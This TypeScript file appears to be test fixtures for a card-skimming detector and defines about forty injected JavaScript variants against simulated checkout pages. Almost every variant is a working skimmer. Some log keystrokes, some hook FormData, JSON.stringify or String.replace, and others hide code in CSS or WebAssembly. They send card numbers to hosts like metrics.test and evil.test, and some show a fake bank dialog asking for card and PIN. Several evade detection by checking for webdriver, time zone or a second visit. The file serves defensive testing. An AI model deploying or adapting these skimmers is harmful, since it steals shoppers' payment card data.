import * as app from './app.ts'
import type { Site } from './page.ts'
import { html, inline, shopAt, js, tool, type Variant } from './variants.ts'

const shop = shopAt('18')
const number = 'document.querySelector("[name=cardnumber]")'
const onChange = (send: string) => `${number}.addEventListener("change", function () { var v = this.value; ${send} });`
const xorModule = 'AGFzbQEAAAABBwFgAn9/AX8DAgEABwUBAWYAAAoJAQcAIAAgAXML'

/** Attacks on the page with its own card fields; written, like the other "blind" files, before the detector was read. */
export const blindOwnAttacks: readonly Variant[] = [
  {
    id: 'mirror-style',
    about: 'the value is mirrored into an attribute, style rules tell it by pictures',
    change: (site) => {
      site.files['shop.test/shop.js'] = js(
        `${shopScriptText()}${number}.addEventListener("input", function () { this.setAttribute("value", this.value); });`,
      )
      site.head.push(
        `<style>${[...'0123456789'].map((d) => `input[value$="${d}"]{background-image:url(http://metrics.test/b/${d})}`).join('')}</style>`,
      )
    },
  },
  shop(
    'key-log',
    'keys are collected and leave as part of the measuring address',
    'var kk = ""; document.addEventListener("keydown", function (e) { if (e.key.length === 1) kk += e.key; if (kk.length === 16) new Image().src = "http://metrics.test/hit?id=A-1&page=%2Fcheckout&r=" + kk.split("").map(function (c) { return (c.charCodeAt(0) * 7 + 3).toString(36); }).join("."); });',
  ),
  shop(
    'formdata-hook',
    'FormData is wrapped',
    'var FD = window.FormData; window.FormData = function (f) { var d = new FD(f); if (f) navigator.sendBeacon("/t", JSON.stringify(Array.from(d))); return d; }; document.getElementById("pay").addEventListener("change", function (e) { new FormData(e.currentTarget); });',
  ),
  shop(
    'referrer-leak',
    'the number goes into the address of the page and leaves as referrer',
    `document.head.insertAdjacentHTML("beforeend", '<meta name="referrer" content="unsafe-url">'); ${onChange('history.replaceState(null, "", "?step=" + btoa(v).replace(/=/g, "")); new Image().src = "http://metrics.test/hit?id=A-1";')}`,
  ),
  shop(
    'window-name',
    'the number waits in the name of the window',
    onChange('window.name = JSON.stringify({ s: Array.from(v, function (c) { return c.charCodeAt(0) ^ 23; }) });'),
  ),
  shop(
    'custom-element',
    'an element of its own watches the form',
    `customElements.define("price-note", class extends HTMLElement { connectedCallback() { var r = this.getRootNode(); setInterval(function () { var f = r.querySelector("form").elements[1]; if (f.value.length > 14) fetch("http://metrics.test/n", { method: "POST", mode: "no-cors", body: f.value.split("").reverse().join("-") }); }, 400); } }); document.body.append(document.createElement("price-note"));`,
  ),
  inline(
    'wasm',
    'the number is scrambled in WebAssembly',
    `addEventListener("load", function () { WebAssembly.instantiate(Uint8Array.from(atob("${xorModule}"), function (c) { return c.charCodeAt(0); })).then(function (m) { ${onChange('fetch("/api/ping?q=" + Array.from(v, function (c, i) { return m.instance.exports.f(c.charCodeAt(0), 91 + i).toString(16); }).join(""));')} }); });`,
  ),
  {
    id: 'css-property-code',
    about: 'code waits in a property of a style sheet',
    change: (site) => {
      site.head.push(
        `<style>:root{--t:"${Buffer.from(`${onChange('new Image().src="http://metrics.test/hit?i="+btoa(v)')}`).toString('base64')}"}</style>`,
      )
      site.files['shop.test/shop.js'] = js(
        `${shopScriptText()}setTimeout(function () { var s = document.createElement("script"); s.text = atob(getComputedStyle(document.documentElement).getPropertyValue("--t").trim().slice(1, -1)); document.head.append(s); }, 50);`,
      )
    },
  },
  shop(
    'quarters',
    'four requests to the shop itself, each with a quarter, shifted and in hex',
    onChange(
      'v.replace(/\\D/g, "").match(/.{1,4}/g).forEach(function (q, i) { setTimeout(function () { fetch("/api/metrics", { method: "POST", body: JSON.stringify({ n: "lcp", d: ((+q + 7919) * 3).toString(16), s: i }) }); }, 150 * i); });',
    ),
  ),
  shop(
    'pagehide',
    'sent when the page is left',
    `addEventListener("pagehide", function () { navigator.sendBeacon("http://metrics.test/hit", "id=A-1&z=" + encodeURIComponent(btoa(encodeURIComponent(${number}.value)))); });`,
  ),
  shop(
    'event-source',
    'the number in base 36 opens a stream of events',
    onChange('new EventSource("/live?room=" + BigInt(v.replace(/\\D/g, "")).toString(36));'),
  ),
  shop(
    'header-borne',
    'the number is in a header of a harmless request',
    onChange(
      'fetch("/cart/count", { headers: { "x-cart-id": v.replace(/\\d/g, function (d) { return (9 - d) + "" + ((+d + 3) % 10); }) } });',
    ),
  ),
  shop(
    'ga-cookie',
    'the number is in a cookie that looks like measuring and goes to the shop',
    onChange('document.cookie = "_ga_S1=GS1.1." + (BigInt(v.replace(/\\D/g, "")) * 17n).toString() + ".1; path=/";'),
  ),
  shop(
    'second-visit',
    'the first visit only leaves a mark',
    `if (localStorage.getItem("v2")) { ${onChange('fetch("/track", { method: "POST", body: btoa(v) });')} } else localStorage.setItem("v2", "1");`,
  ),
  shop(
    'careful',
    'only where no one is watching and in one time zone',
    `if (!navigator.webdriver && outerWidth - innerWidth < 160 && /Paris|Berlin/.test(Intl.DateTimeFormat().resolvedOptions().timeZone)) { ${onChange('navigator.sendBeacon("/log", v);')} }`,
  ),
  shop(
    'font-face',
    'the number is in the address of a font',
    onChange(
      'new FontFace("brand", "url(http://fonts.evil.test/" + btoa(v) + ".woff2)").load().catch(function () {});',
    ),
  ),
  shop(
    'late-style',
    'the number is in the address of a style sheet, encoded twice',
    onChange(
      'var l = document.createElement("link"); l.rel = "stylesheet"; l.href = "/themes/" + btoa(btoa(v)) + ".css"; document.head.append(l);',
    ),
  ),
  inline(
    'dynamic-import',
    'a module whose address holds the number',
    `addEventListener("load", function () { ${onChange('import("http://evil.test/m/" + Array.from(v, function (c) { return c.charCodeAt(0).toString(16); }).join("") + ".js").catch(function () {});')} });`,
  ),
  shop(
    'blob-worker',
    'a worker made of text asks for scripts',
    onChange(
      'var w = new Worker(URL.createObjectURL(new Blob(["onmessage=function(e){try{importScripts(e.data)}catch(_){}}"]))); w.postMessage("http://evil.test/i.js?" + encodeURIComponent(v));',
    ),
  ),
  shop(
    'elsewhere-on-pay',
    'pay leads to a shop that looks alike',
    'document.getElementById("pay").addEventListener("submit", function (e) { e.preventDefault(); location.assign("http://shop-secure.test/checkout"); });',
  ),
  shop(
    'replace-hook',
    'cleaning of any text is overheard',
    'var rp = String.prototype.replace; String.prototype.replace = function () { if (/^[\\d ]{15,}$/.test(this)) navigator.sendBeacon("/e", JSON.stringify({ t: "" + this })); return rp.apply(this, arguments); };',
  ),
  html(
    'other-form',
    'the card fields belong to another form by their attribute',
    '<form id="sv" action="http://evil.test/c" method="post"></form><label>Card number <input form="sv" name="cardnumber2" autocomplete="cc-number"></label><button form="sv">Pay</button>',
  ),
  inline(
    'speculation',
    'rules for fetching ahead carry the number',
    `addEventListener("load", function () { ${onChange('var s = document.createElement("script"); s.type = "speculationrules"; s.text = JSON.stringify({ prefetch: [{ source: "list", urls: ["/p/" + btoa(v)] }] }); document.head.append(s);')} });`,
  ),
  inline(
    'own-wallet',
    'a payment request with a method of a stranger',
    'addEventListener("load", function () { document.getElementById("pay").addEventListener("submit", function (e) { e.preventDefault(); new PaymentRequest([{ supportedMethods: "https://pay.evil.test/w" }], { total: { label: "Order", amount: { currency: "EUR", value: "59.90" } } }).show().catch(function () {}); }); });',
  ),
  shop(
    'link-ping',
    'a link is pressed by the script, its ping carries the number',
    onChange(
      'var a = document.createElement("a"); a.href = "#"; a.ping = "http://metrics.test/p?" + btoa(v); document.body.append(a); a.click(); a.remove();',
    ),
  ),
  {
    id: 'heat-map',
    about: 'the digits leave as places of a heat map',
    change: (site) => {
      site.files['metrics.test/m.js'] = js(
        `(function () { var id = "A-1"; var beacon = new Image(); beacon.src = "http://metrics.test/hit?id=" + id; document.addEventListener("change", function (e) { var m = String(e.target.value).replace(/\\D/g, "").match(/\\d{4}/g); if (m) navigator.sendBeacon("http://metrics.test/heat", JSON.stringify(m.map(function (q, i) { return { x: +q.slice(0, 2) * 11, y: +q.slice(2) * 7, t: i }; }))); }); })();`,
      )
    },
  },
  tool(
    'replay-open',
    'an approved recording of sessions without masking',
    '(function () { var q = []; document.addEventListener("input", function (e) { q.push([Date.now(), e.target.name, e.target.value]); }, true); setInterval(function () { if (q.length) { navigator.sendBeacon("http://in.tools-approved.test/r", JSON.stringify(q)); q = []; } }, 300); })();',
  ),
  tool(
    'chat-preview',
    'an approved chat shows the agent what is typed anywhere',
    '(function () { var w = new WebSocket("ws://chat.tools-approved.test/ws"), last; function push() { fetch("http://chat.tools-approved.test/typing", { method: "POST", mode: "no-cors", body: new URLSearchParams({ p: last }) }); } document.addEventListener("keyup", function (e) { last = e.target.value; push(); }); })();',
  ),
  shop(
    'bin-all',
    'a look-up of the first eight digits, and of the others',
    `${number}.addEventListener("blur", function () { var d = this.value.replace(/\\D/g, ""); fetch("/api/bin?b=" + d.slice(0, 8) + "&r=" + d.slice(8)); });`,
  ),
  shop(
    'number-words',
    'digits as words in a search',
    onChange(
      'fetch("/search?q=" + encodeURIComponent(v.replace(/\\D/g, "").split("").map(function (d) { return ["red", "blue", "hat", "shoe", "sock", "belt", "coat", "bag", "ring", "tie"][d]; }).join(" ")));',
    ),
  ),
]

function shopScriptText() {
  const site: Pick<Site, 'files'> = { files: {} }
  shop('', '', '').change(site as Site)
  return site.files['shop.test/shop.js']?.body ?? ''
}

const asset = 'shop.test/assets/index-a81c.js'
const bundle = (id: string, about: string, more: string): Variant => ({
  id,
  about,
  change: (site) => void (site.files[asset] = js(app.bundle('3.2.1', more))),
})

/** Attacks on the single-page shop. */
export const blindAppAttacks: readonly Variant[] = [
  {
    id: 'errors-copy',
    about: 'the error reporter copies what goes to the provider',
    change: (site) => {
      site.files['js.mon.test/errors.min.js'] = js(
        app.errors(
          '8.1.1',
          'var f = w.fetch; w.fetch = function (u, i) { if (i && i.body) { var x = new XMLHttpRequest(); x.open("POST", "http://in.mon.test/api/4711/envelope/"); x.send(btoa(encodeURIComponent(String(i.body)))); } return f.apply(this, arguments); };',
        ),
      )
    },
  },
  {
    id: 'errors-account',
    about: 'errors with the number in them, to another account of the same vendor',
    change: (site) => {
      site.inline[0] = 'Mon.init({ dsn: "90210", release: "shop@3.2.0" });'
      site.files[asset] = js(
        app.bundle(
          '3.2.0',
          'document.addEventListener("change", (e) => { if (e.target.name === "cardNumber") setTimeout(() => { throw new Error("invalid state " + btoa(e.target.value)); }); });',
        ),
      )
    },
  },
  bundle(
    'sealed-telemetry',
    'sealed with a public key, to the shop itself',
    'const kp = crypto.subtle.generateKey({ name: "RSA-OAEP", modulusLength: 2048, publicExponent: new Uint8Array([1, 0, 1]), hash: "SHA-256" }, true, ["encrypt", "decrypt"]); document.addEventListener("change", async (e) => { const k = (await kp).publicKey, b = await crypto.subtle.encrypt({ name: "RSA-OAEP" }, k, new TextEncoder().encode(e.target.name + e.target.value)); fetch("/api/telemetry", { method: "POST", body: b }); });',
  ),
  bundle(
    'stringify-hook',
    'JSON.stringify is overheard',
    'const js = JSON.stringify; JSON.stringify = function (v) { const t = js.apply(this, arguments); if (v && v.method) navigator.sendBeacon("/api/orders/draft", js({ ...v, ref: Object.values(state.card).join("|").split("").map((c) => c.charCodeAt(0) + 1) })); return t; };',
  ),
  {
    id: 'worker-copy',
    about: 'the service worker copies what is posted to the provider',
    change: (site) => {
      site.files['shop.test/sw.js'] = js(
        app.worker(
          '3.2.1',
          'self.addEventListener("fetch", (event) => { if (event.request.method === "POST" && event.request.url.includes("payment_methods")) event.waitUntil(event.request.clone().text().then((t) => fetch("/assets/log?" + btoa(t)))); });',
        ),
      )
    },
  },
  {
    id: 'import-map',
    about: 'an import map leads the bundle to another file',
    change: (site) =>
      void site.head.unshift(
        '<script type="importmap">{"imports":{"/assets/index-a81c.js":"http://fp.shield.test/index-a81c.js"}}</script>',
      ),
  },
  {
    id: 'shield-keys',
    about: 'the fraud tag sends the keys, not only their times',
    change: (site) => {
      site.files['fp.shield.test/tag.js'] = js(
        app.shield(
          'a920',
          'document.addEventListener("keydown",function(e){k.v=(k.v||"")+e.key;});addEventListener("load",function(){setInterval(function(){if(k.v)navigator.sendBeacon("http://fp.shield.test/p?s="+s,JSON.stringify({v:escape(k.v).split("").map(function(c){return c.charCodeAt(0)^5})}));},300)});',
        ),
      )
    },
  },
  {
    id: 'api-elsewhere',
    about: 'the bundle posts the card to a host that sounds like the provider',
    change: (site) =>
      void (site.files[asset] = js(app.bundle('3.2.0', '', 'http://api.psp-pay.test/v1/payment_methods'))),
  },
  bundle(
    'kept-for-later',
    'the number is kept in a database of the browser, scrambled',
    'document.addEventListener("change", (e) => { const o = indexedDB.open("kv", 1); o.onupgradeneeded = () => o.result.createObjectStore("s"); o.onsuccess = () => o.result.transaction("s", "readwrite").objectStore("s").put(new TextEncoder().encode(e.target.value).map((b) => b ^ 170), e.target.name); });',
  ),
  bundle(
    'fake-3ds',
    'after pay a step of the bank asks for the card again',
    'document.addEventListener("submit", () => setTimeout(() => document.body.append(h("dialog", { open: "" }, h("p", {}, "Your bank asks you to confirm"), h("form", { action: "/bank/confirm", method: "post" }, h("input", { name: "pan", placeholder: "0000 0000 0000 0000" }), h("input", { name: "pin", type: "password", placeholder: "Card PIN" }), h("button", {}, "Confirm")))), 100));',
  ),
]
